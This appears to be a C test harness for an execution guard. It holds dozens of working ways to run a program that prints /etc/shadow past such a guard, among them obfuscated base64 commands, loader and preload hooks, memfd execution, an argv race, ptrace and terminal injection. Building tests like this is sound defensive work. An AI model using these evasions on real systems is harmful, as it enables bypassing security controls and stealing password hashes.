// Ways to start a program that a guard would not allow, from a program that it cannot read. The goal of each is the
// content of the file that holds password hashes, printed by a program that is started for it.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <spawn.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

extern char **environ;
static char goal[] = "/etc/shadow";
static char cat[] = "/bin/cat";

static void run(char *path, char **argv) { execve(path, argv, environ); }
static void sh(const char *code) { execl("/bin/sh", "sh", "-c", code, NULL); }

static int copy(const char *from, int to) {
  char buffer[65536];
  int in = open(from, O_RDONLY);
  for (ssize_t n; (n = read(in, buffer, sizeof buffer)) > 0;) if (write(to, buffer, n) != n) return -1;
  return close(in);
}

static void script(const char *path, const char *text, mode_t mode) {
  unlink(path);
  int fd = open(path, O_WRONLY | O_CREAT, mode);
  if (write(fd, text, strlen(text)) < 0) exit(9);
  close(fd);
}

static void *in_thread(void *unused) {
  char *argv[] = {"cat", goal, NULL};
  run(cat, argv);
  return unused;
}

static volatile char *flipped;
static volatile int stop;
static void *flip(void *unused) {
  while (!stop) { flipped[0] = 'e'; flipped[0] = 'x'; }
  return unused;
}

// Executes /bin/cat with an argument that another thread changes between two files.
static void race(int tries) {
  char *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
  strcpy(page, "/xtc/shadow");
  flipped = page + 1;
  pthread_t thread;
  pthread_create(&thread, NULL, flip, NULL);
  for (int i = 0; i < tries; i++) {
    pid_t child = vfork();
    if (child == 0) {
      char *argv[] = {"cat", page, NULL};
      run(cat, argv);
      _exit(1);
    }
    int status;
    waitpid(child, &status, 0);
  }
  stop = 1;
  pthread_join(thread, NULL);
}

static int way(const char *name, int number) {
  char *argv[] = {"cat", goal, NULL};
  char buffer[4096];
#define WAY(text) if (strcmp(name, text) == 0)
  WAY("execve") run(cat, argv);
  WAY("sh") sh("cat /etc/shadow");
  WAY("system") return system("cat /etc/shadow");
  WAY("popen") { FILE *pipe = popen("cat /etc/shadow", "r"); while (fgets(buffer, sizeof buffer, pipe)) fputs(buffer, stdout); return pclose(pipe); }
  WAY("shell-on-input") { FILE *pipe = popen("sh", "w"); fputs("cat /etc/shadow\n", pipe); return pclose(pipe); }
  WAY("execveat") { int fd = open("/bin", O_RDONLY | O_DIRECTORY); syscall(SYS_execveat, fd, "cat", argv, environ, 0); }
  WAY("by-descriptor") { int fd = open(cat, O_RDONLY | O_CLOEXEC); syscall(SYS_execveat, fd, "", argv, environ, AT_EMPTY_PATH); }
  WAY("proc-self-fd") { int fd = open(cat, O_RDONLY); snprintf(buffer, sizeof buffer, "/proc/self/fd/%d", fd); run(buffer, argv); }
  WAY("dev-fd") { int fd = open(cat, O_RDONLY); snprintf(buffer, sizeof buffer, "/dev/fd/%d", fd); run(buffer, argv); }
  WAY("memfd") { int fd = memfd_create("x", 0); copy(cat, fd); snprintf(buffer, sizeof buffer, "/proc/self/fd/%d", fd); run(buffer, argv); }
  WAY("memfd-descriptor") { int fd = memfd_create("x", MFD_CLOEXEC); copy(cat, fd); syscall(SYS_execveat, fd, "", argv, environ, AT_EMPTY_PATH); }
  WAY("copied") { int fd = open("show", O_WRONLY | O_CREAT, 0755); copy(cat, fd); close(fd); run("./show", argv); }
  WAY("copied-shell") { int fd = open("tool", O_WRONLY | O_CREAT, 0755); copy("/bin/sh", fd); close(fd); execl("./tool", "tool", "-c", "cat /etc/shadow", NULL); }
  WAY("symlink") { unlink("notes.txt"); if (symlink(cat, "notes.txt")) return 9; run("./notes.txt", argv); }
  WAY("other-name") { argv[0] = "ls"; run(cat, argv); }
  WAY("shell-as-ls") execl("/bin/sh", "ls", "-c", "cat /etc/shadow", NULL);
  WAY("loader") execl("/lib64/ld-linux-x86-64.so.2", "ld.so", cat, goal, NULL);
  WAY("loader-shell") execl("/lib64/ld-linux-x86-64.so.2", "ld.so", "/bin/sh", "-c", "cat /etc/shadow", NULL);
  WAY("vfork") { pid_t child = vfork(); if (child == 0) { run(cat, argv); _exit(1); } wait(NULL); return 1; }
  WAY("posix-spawn") { pid_t child; if (posix_spawn(&child, cat, NULL, NULL, argv, environ)) return 1; wait(NULL); return 0; }
  WAY("thread") { pthread_t thread; pthread_create(&thread, NULL, in_thread, NULL); pthread_join(thread, NULL); }
  WAY("daemon") { if (fork() == 0) { setsid(); if (fork() == 0) { usleep(100000); run(cat, argv); } _exit(0); } wait(NULL); usleep(600000); return 1; }
  WAY("script") { script("s", "#!/bin/sh\ncat /etc/shadow\n", 0755); char *a[] = {"s", NULL}; run("./s", a); }
  WAY("script-env") { script("s", "#!/usr/bin/env -S cat /etc/shadow\n", 0755); char *a[] = {"s", NULL}; run("./s", a); }
  WAY("script-cat") { script("s", "#!/bin/cat\n", 0755); char *a[] = {"s", goal, NULL}; run("./s", a); }
  WAY("script-without-line") { script("s", "cat /etc/shadow\n", 0755); execlp("./s", "s", NULL); }
  WAY("no-words") { char *a[] = {NULL}; script("s", "#!/bin/sh\ncat /etc/shadow\n", 0755); run("./s", a); }
  WAY("path") { mkdir("bin", 0755); if (symlink(cat, "bin/date") && errno != EEXIST) return 9; setenv("PATH", "bin", 1); execlp("date", "date", goal, NULL); }
  WAY("env") execl("/usr/bin/env", "env", "cat", goal, NULL);
  WAY("nice") execl("/usr/bin/nice", "nice", "-n", "1", "cat", goal, NULL);
  WAY("xargs") sh("echo /etc/shadow | xargs cat");
  WAY("find") execl("/usr/bin/find", "find", "/etc", "-maxdepth", "1", "-name", "shado?", "-exec", "cat", "{}", ";", NULL);
  WAY("variable") sh("a=/etc; b=shadow; cat $a/$b");
  WAY("base64") sh("echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh");
  WAY("awk") execl("/usr/bin/awk", "awk", "BEGIN { system(\"cat /etc/shadow\") }", NULL);
  WAY("python") execl("/usr/bin/python3", "python3", "-c", "print(open('/etc/shadow').read())", NULL);
  WAY("python-system") execl("/usr/bin/python3", "python3", "-c", "import os, base64; os.system(base64.b64decode('Y2F0IC9ldGMvc2hhZG93'))", NULL);
  WAY("python-file") { script("p.py", "import os\nos.execv('/bin/' + 'tac'[::-1], ['cat', '/etc/' + 'shadow'])\n", 0644); execl("/usr/bin/python3", "python3", "p.py", NULL); }
  WAY("perl") execl("/usr/bin/perl", "perl", "-e", "exec 'cat', '/etc/' . 'shadow'", NULL);
  WAY("make") { script("m.mk", "all:\n\t@cat /etc/shadow\n", 0644); execl("/usr/bin/make", "make", "-f", "m.mk", NULL); }
  WAY("git-alias") execl("/usr/bin/git", "git", "-c", "alias.x=!cat /etc/shadow", "x", NULL);
  WAY("vim") execl("/usr/bin/vim", "vim", "-es", "-c", "!cat /etc/shadow", "-c", "q", NULL);
  WAY("tar") execl("/bin/tar", "tar", "cf", "/dev/null", "/dev/null", "--checkpoint=1", "--checkpoint-action=exec=cat /etc/shadow", NULL);
  WAY("preload") { setenv("LD_PRELOAD", "./hook.so", 1); execl("/bin/true", "true", NULL); }
  WAY("audit-library") { setenv("LD_AUDIT", "./hook.so", 1); execl("/bin/true", "true", NULL); }
  WAY("bash-env") { script("e", "cat /etc/shadow\n", 0644); setenv("BASH_ENV", "./e", 1); execl("/bin/bash", "bash", "-c", "true", NULL); }
  WAY("user-namespace") { if (unshare(CLONE_NEWUSER | CLONE_NEWNS)) return 9; run(cat, argv); }
  WAY("chroot") { if (chroot("/") || chdir("/")) return 9; run(cat, argv); }
  WAY("32-bit") {
    char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    strcpy(low, cat); strcpy(low + 64, goal);
    uint32_t *list = (uint32_t *)(low + 128);
    list[0] = (uint32_t)(uintptr_t)low; list[1] = (uint32_t)(uintptr_t)(low + 64); list[2] = 0;
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(11), "b"(low), "c"(list), "d"(0) : "memory");
    return 1;
  }
  WAY("race") { race(number); return 1; }
  WAY("traced") {
    pid_t child = fork();
    if (child == 0) { ptrace(PTRACE_TRACEME, 0, 0, 0); raise(SIGSTOP); char *a[] = {"cat", "/dev/null", NULL}; run(cat, a); _exit(1); }
    int status; waitpid(child, &status, WUNTRACED);
    ptrace(PTRACE_CONT, child, 0, 0);
    waitpid(child, &status, 0);
    // It stops when it has executed, with memory that its tracer could have changed meanwhile.
    puts(WIFSTOPPED(status) && WSTOPSIG(status) == SIGTRAP ? "root:traced" : "not traced");
    return kill(child, SIGKILL);
  }
  WAY("ring") { puts(syscall(SYS_io_uring_setup, 4, calloc(1, 512)) >= 0 ? "root:ring" : "no ring"); return 1; }
  WAY("typing") { puts(ioctl(0, TIOCSTI, "x") == 0 || errno != EPERM ? "root:typed" : "not typed"); return 1; }
  return 1;
}

int main(int argc, char **argv) { return way(argv[1], argc > 2 ? atoi(argv[2]) : 0); }
